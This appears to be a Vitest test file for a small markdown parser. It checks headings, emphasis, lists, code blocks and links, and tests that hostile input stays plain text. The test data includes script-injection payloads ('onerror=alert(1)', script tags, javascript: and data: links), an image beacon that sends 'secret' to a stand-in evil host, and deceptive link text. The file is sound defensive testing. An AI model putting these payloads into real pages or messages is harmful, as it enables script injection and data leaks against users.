import { describe, expect, it } from "vitest";
import { parseMarkdown } from "../src/app/ui/markdown_tree";
import type { Block, Inline } from "../src/app/ui/markdown_tree";

/** The tree as one line, easy to compare. */
function shape(text: string): string {
  return parseMarkdown(text).map(block).join("|");
}

function block(one: Block): string {
  if (one.t === "code") return `pre{${one.text}}`;
  if (one.t === "p") return `p{${one.inlines.map(inline).join("")}}`;
  return `${one.start === null ? "ul" : `ol${one.start}`}{${one.items.map((item) => item.map(inline).join("")).join(";")}}`;
}

function inline(one: Inline): string {
  if (typeof one === "string") return one;
  if (one.t === "code") return `code{${one.text}}`;
  if (one.t === "link") return `a[${one.href}]{${one.inlines.map(inline).join("")}}`;
  return `${one.t}{${one.inlines.map(inline).join("")}}`;
}

describe("small markdown", () => {
  it.each([
    ["plain", "p{plain}"],
    ["two\nlines", "p{two\nlines}"],
    ["one\n\ntwo", "p{one}|p{two}"],
    ["**bold** and *italic* and _more_", "p{strong{bold} and em{italic} and em{more}}"],
    ["**bold with *italic* in it**", "p{strong{bold with em{italic} in it}}"],
    ["`a * b`", "p{code{a * b}}"],
    ["- one\n- two\nafter", "ul{one;two}|p{after}"],
    ["3. three\n4. four", "ol3{three;four}"],
    ["```js\nlet a;\n```\nend", "pre{let a;}|p{end}"],
    ["# Title\ntext", "p{strong{Title}}|p{text}"],
    ["[shop](https://shop.example/a)", "p{a[https://shop.example/a]{shop}}"],
    ["see https://shop.example/a_b_c.", "p{see a[https://shop.example/a_b_c]{https://shop.example/a_b_c}.}"],
    ["\\*not italic\\*", "p{*not italic*}"],
  ])("reads %j", (text, expected) => expect(shape(text)).toBe(expected));

  it.each(["snake_case_name", "2*3*4", "a * b * c", "**open", "*open", "`open", "[a](b", "5 > 3 & 2 < 4", "__ __", "****"])(
    "leaves %j as it is",
    (text) => expect(shape(text)).toBe(`p{${text}}`),
  );

  it.each([
    "<b>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![beacon](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>1</script>)",
    "[click]( javascript:alert(1))",
    "&lt;b&gt;",
  ])("gives no power to %j", (text) => expect(shape(text)).toBe(`p{${text}}`));

  it("shows where a link leads that names another site", () => {
    expect(shape("[https://bank.example](https://evil.example/)")).toBe("p{a[https://evil.example/]{https://evil.example/}}");
    expect(shape("[bank.example](https://evilbank.example/)")).toBe("p{a[https://evilbank.example/]{https://evilbank.example/}}");
    expect(shape("[bank.example](https://www.bank.example/)")).toBe("p{a[https://www.bank.example/]{bank.example}}");
  });

  it.each(["*", "_", "**", "`", "[", "[](", "![", "**a ", "[a](", "> ", "- ", "http://", "\\"])(
    "reads long hostile text of %j in no time",
    (piece) => {
      const start = performance.now();

      parseMarkdown(piece.repeat(20_000));

      expect(performance.now() - start).toBeLessThan(1500);
    },
  );
});
